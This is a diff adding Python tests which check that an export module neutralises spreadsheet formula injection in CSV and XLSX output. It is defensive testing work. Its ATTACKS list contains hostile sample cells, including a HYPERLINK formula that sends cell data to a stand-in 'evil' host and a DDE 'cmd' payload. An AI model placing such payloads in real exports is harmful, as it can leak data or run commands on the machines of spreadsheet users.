@@ -7,6 +7,7 @@ from __future__ import annotations
 import io
 import os
 import re
+import shutil
 import struct
 from datetime import UTC, datetime
 from pathlib import Path
@@ -193,3 +194,47 @@ def test_images_available_follows_browser_path(monkeypatch: pytest.MonkeyPatch) 
     monkeypatch.delenv("BROWSER_PATH")
     monkeypatch.setenv("PATH", "/nonexistent")
     assert exports.images_available() is False
+
+
+ATTACKS = ['=HYPERLINK("http://evil/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised() -> None:
+    frame = pl.DataFrame(
+        {"member_id": [*ATTACKS, "\rx", "ok", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8]}
+    )
+    back = pl.read_csv(io.BytesIO(exports.frame_csv(frame)))
+    assert back["member_id"].to_list() == [
+        *("'" + a for a in ATTACKS), "'\rx", "ok", None
+    ]  # fmt: skip
+    assert back["n"].dtype == pl.Int64  # numbers stay numbers, negatives included
+    assert back["n"].to_list() == [-1, 2, 3, 4, 5, 6, 7, 8]
+
+
+def test_csv_column_names_and_nested_cells_are_neutralised_too() -> None:
+    frame = pl.DataFrame({"=cmd": ["a"], "factors": [["=x", "y"]]})
+    text = exports.frame_csv(frame).decode()
+    assert text.splitlines() == ["'=cmd,factors", 'a,"\'=x, y"']
+
+
+def test_xlsx_keeps_formula_text_as_text() -> None:
+    frame = pl.DataFrame({"title": ATTACKS})
+    book = openpyxl.load_workbook(io.BytesIO(exports.frame_xlsx(frame)))
+    cells = [c for c in book.active["A"]][1:]
+    assert [c.value for c in cells] == ATTACKS
+    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ("f")
+
+
+def test_cli_csv_export_neutralises_a_formula_title(demo_folder: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "demo"
+    shutil.copytree(demo_folder, folder)
+    items = pl.read_parquet(folder / "proof_items.parquet")
+    items.with_columns(pl.lit(ATTACKS[0]).alias("title")).write_parquet(
+        folder / "proof_items.parquet"
+    )
+    out = tmp_path / "effects.csv"
+    assert main(["export", "chart", "effects", "--data", str(folder), "--out", str(out),
+                 "--format", "csv"]) == 0  # fmt: skip
+    titles = pl.read_csv(out)["title"].to_list()
+    assert titles
+    assert all(t == "'" + ATTACKS[0] for t in titles)
